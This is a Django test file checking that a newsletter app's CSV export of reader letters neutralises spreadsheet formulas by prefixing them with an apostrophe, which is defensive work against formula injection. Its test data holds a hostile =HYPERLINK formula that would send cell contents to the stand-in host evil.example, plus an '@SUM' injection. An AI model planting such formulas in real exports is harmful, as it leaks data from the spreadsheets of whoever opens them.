"""The inbox's CSV export cannot run a formula a writer typed as their pen name or letter."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.urls import reverse

from testing.letters import store_letter

# Hostile input: also part of `make attack` (docs/SECURITY.md).
pytestmark = pytest.mark.attack

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")'


def test_formula_cells_are_written_as_text(client, column):
    store_letter(column, pen_name=FORMULA, letter="@SUM(1+1) is my question", email="w@x.example")
    editor = get_user_model().objects.create_user("eddie", "eddie@staff.example")
    editor.groups.add(Group.objects.get(name="Editors"))
    client.force_login(editor)
    response = client.get(
        reverse("wagtailsnippets_mailbag_readerletter:list") + "?export=csv&status=all"
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response).decode())))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Pen name"] == "'" + FORMULA
    assert cells["Letter"] == "'@SUM(1+1) is my question"
    assert cells["Email"] == "w@x.example"
